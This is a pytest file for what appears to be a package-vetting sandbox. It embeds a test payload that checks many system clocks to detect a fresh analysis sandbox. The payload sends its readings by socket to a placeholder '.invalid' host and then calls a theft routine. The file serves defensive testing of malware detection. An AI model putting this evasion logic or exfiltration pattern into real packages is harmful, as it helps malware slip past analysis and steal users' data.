"""Every clock a package can read inside the sandbox tells the same story: a machine up for
days (the persona's age), whose PID 1 started at boot and whose own process started a moment
ago. The fixture steals only when the machine is more than ten minutes old by *each* clock
(time.monotonic, CLOCK_BOOTTIME, /proc/uptime, psutil.boot_time, PID 1's start time) and when
the clocks agree; it sends what it read to a `.invalid` host, so the test sees it too. Real
containers under gVisor and runc."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

import sandbox_fixtures as fx
from pkgvet.model import Verdict
from sandbox_fixtures import evasion as ev

ACTS_ON_AN_OLD_MACHINE = ev.THEFT + '''
import json as _json
import time as _time

_hz = _os.sysconf("SC_CLK_TCK")


def _start(path):
    with open(path) as fh:
        return int(fh.read().rsplit(")", 1)[1].split()[19]) / _hz


with open("/proc/uptime") as _fh:
    _uptime = float(_fh.read().split()[0])
_clocks = {
    "monotonic": _time.monotonic(),
    "boottime": _time.clock_gettime(_time.CLOCK_BOOTTIME),
    "uptime": _uptime,
    "boot_age": _time.time() - [int(l.split()[1]) for l in open("/proc/stat")
                                if l.startswith("btime ")][0],
    "pid1_age": _uptime - _start("/proc/1/stat"),
    "self_age": _uptime - _start("/proc/self/stat"),
}
try:
    import psutil as _psutil
    _clocks["psutil_boot_age"] = _time.time() - _psutil.boot_time()
    _clocks["psutil_self_age"] = _time.time() - _psutil.Process().create_time()
except ImportError:
    pass
_ages = [v for k, v in _clocks.items() if not k.startswith(("self", "psutil_self"))]
_agree = max(_ages) - min(_ages) < 60
try:
    with _socket.create_connection(("clocks.pkgvet-test.invalid", 80), timeout=3) as _conn:
        _conn.sendall(_json.dumps(_clocks).encode())
except OSError:
    pass
if min(_ages) > 600 and _agree and _clocks["self_age"] < 600:
    _theft()
'''


@pytest.mark.sandbox
@pytest.mark.parametrize("runtime", ["runsc", "runc"])
def test_every_clock_says_the_machine_is_old_and_they_agree(tmp_path: Path,
                                                            runtime: str) -> None:
    outcome = fx.run_sdist(tmp_path, runtime, "uptimecheck", ACTS_ON_AN_OLD_MACHINE)
    clocks = fx.first_sent(outcome, '{"monotonic"')
    print(runtime, json.dumps(clocks, indent=1))
    ages = {k: v for k, v in clocks.items() if not k.endswith("self_age")}
    assert min(ages.values()) > 600, ages  # a machine up for more than ten minutes
    assert max(ages.values()) - min(ages.values()) < 60, ages  # by every clock alike
    assert 0 <= clocks["self_age"] < 600  # the package's own process started just now
    if "psutil_self_age" in clocks:
        assert 0 <= clocks["psutil_self_age"] < 600
    rules = {f.rule_id for f in outcome.findings}
    assert {"PV801", "PV803"} <= rules, sorted(rules)  # so it acted, and was caught
    assert outcome.report.verdict is Verdict.MALICIOUS
